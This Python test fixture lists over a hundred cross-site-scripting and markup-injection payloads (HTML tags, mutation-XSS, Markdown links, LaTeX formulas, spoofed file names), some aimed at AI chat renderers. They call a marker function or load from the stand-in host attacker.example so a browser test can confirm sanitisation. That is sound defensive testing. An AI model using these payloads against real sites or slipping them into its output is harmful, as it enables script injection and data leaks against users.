"""Strings that try to run a script, load something, or break out of where they are shown.

Each is ``(name, text)``. Every one calls ``attacked()`` or loads from
``attacker.example``, so a browser test can tell that nothing ran and nothing left.
"""

from __future__ import annotations

RUN = "attacked()"
HOST = "attacker.example"

_TAGS = (
    "<script>{run}</script>",
    "<SCRIPT SRC=//{host}/a.js></SCRIPT>",
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</pre></code><script>{run}</script>",
    "</details></figure></div><script>{run}</script>",
    "-->\n<script>{run}</script>",
    "]]><script>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img src=x onerror={run}>",
    '<img src="x" onerror="{run}"',
    "<img src=//{host}/pixel.png>",
    '<img srcset="//{host}/a.png 1x">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    '<svg><a xlink:href="javascript:{run}"><text y=9>x</text></a></svg>',
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    '<svg><use href="//{host}/a.svg#x"/></svg>',
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<body onload={run}>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=//{host}/a.swf>",
    "<link rel=stylesheet href=//{host}/a.css>",
    "<style>@import '//{host}/a.css';</style>",
    "<style>*{{background:url(//{host}/a.png)}}</style>",
    '<div style="background:url(//{host}/a.png)">x</div>',
    "<base href=//{host}/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<button formaction=javascript:{run}>x</button>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<video poster=//{host}/a.png></video>",
    "<marquee onstart={run}>x</marquee>",
    "<a href=javascript:{run}>x</a>",
    '<a href="jav&#x09;ascript:{run}">x</a>',
    "<a href='vbscript:{run}'>x</a>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "＜script＞{run}＜/script＞",
    "<a\x0bhref\x0c=javascript:{run}>x</a>",
    "<img/src=x/onerror={run}>",
    "<x contenteditable onblur={run}>x</x>",
    "<math href=javascript:{run}>x</math>",
)
_MARKUP_MUTATIONS = (
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table>",
    "<math><mi><mglyph><svg><mtext><style><path id='</style><img src=x onerror={run}>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={run}></annotation-xml></math>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<table><td><svg><desc><td><script>{run}</script>",
    "<math><maction actiontype='statusline' xlink:href='javascript:{run}'>x</maction></math>",
)
_MARKDOWN = (
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](  javascript:{run}  'title')",
    "[x](<javascript:{run}>)",
    "[x](java\tscript:{run})",
    "[x](javascript&colon;{run})",
    "[x](&#106;avascript:{run})",
    "[x](\x01javascript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+)",
    "[x](vbscript:{run})",
    "[x](file:///etc/passwd)",
    "[x](blob:https://{host}/1)",
    "[x](//{host}/a)",
    '[x](https://{host}/"onmouseover="{run})',
    "[x](https://{host}/ '\"onmouseover=\"{run}')",
    "[x][1]\n\n[1]: javascript:{run}",
    "[x][1]\n\n[1]: https://{host} '\" onclick=\"{run}'",
    "![x](https://{host}/pixel.png)",
    "![x](//{host}/pixel.png)",
    "![x](data:image/svg+xml,<svg onload={run}>)",
    '![x" onerror="{run}](https://{host}/a.png)',
    "![a](x)![b](javascript:{run} 'c')",
    "[![x](https://{host}/pixel.png)](javascript:{run})",
    "<javascript:{run}>",
    "<data:text/html,<script>{run}</script>>",
    '<https://{host}/"onclick={run}>',
    'https://{host}/"onmouseover="{run}',
    "https://{host}/<script>{run}</script>",
    "```<script>{run}</script>\nx\n```",
    '```"><img src=x onerror={run}>\nx\n```',
    "```html\n<script>{run}</script>\n```",
    "```diff\n+<img src=x onerror={run}>\n```",
    "`<img src=x onerror={run}>`",
    "| <img src=x onerror={run}> | [x](javascript:{run})\n|--|--|\n| <script> | ![x](//{host}/) |",
    "x[^1]\n\n[^1]: <img src=x onerror={run}> [x](javascript:{run})",
    'x[^"><script>{run}</script>]\n\n[^"><script>{run}</script>]: y',
    "# <img src=x onerror={run}> {{#id onclick={run}}}",
    "- [x] <input onfocus={run} autofocus>",
    "> <script>{run}</script>\n> [x](javascript:{run})",
    ':::writing{{variant="x" subject="<img src=x onerror={run}>"}}\nx\n:::',
    '[x](sandbox:/mnt/data/"onclick="{run})',
    "[x](canmore://textdoc/javascript:{run})",
    "\ufdd01\ufdd1\ufdd0<script>{run}</script>\ufdd1",
)
_FORMULAS = (
    r"\(\text{{<script>{run}</script>}}\)",
    r"\(\text{{&lt;img src=x onerror={run}&gt;}}\)",
    r"\(\href{{javascript:{run}}}{{x}}\)",
    r"$$\class{{x}}{{y}}\style{{background:url(//{host}/a.png)}}{{z}}$$",
    r"\[\mathrm{{<img src=x onerror={run}>}}\]",
    r"$x\unknown{{<svg onload={run}>}}$",
    r"\(<\)img src=x onerror={run}\(>\)",
    r"\(\color{{red;background:url(//{host}/a)}}{{x}}\)",
    r"$\begin{{aligned}}<script>&{run}</script>\end{{aligned}}$",
    r"\(</math><img src=x onerror={run}>\)",
)
_NAMES = (
    '../../"><img src=x onerror={run}>.png',
    'a.png" onload="{run}',
    "javascript:{run}",
    "{run}//.html",
    "x' onclick='{run}",
    "\u202e<script>{run}</script>gnp.exe",
    'dalle.text2im"><script>{run}</script>',
    "${{{run}}} {{{{{run}}}}} `{run}`",
)


def _filled(kind: str, templates: tuple[str, ...]) -> list[tuple[str, str]]:
    return [
        (f"{kind}-{number}", template.format(run=RUN, host=HOST))
        for number, template in enumerate(templates, start=1)
    ]


ATTACKS: list[tuple[str, str]] = [
    *_filled("tag", _TAGS),
    *_filled("mutation", _MARKUP_MUTATIONS),
    *_filled("markdown", _MARKDOWN),
    *_filled("formula", _FORMULAS),
    *_filled("name", _NAMES),
]
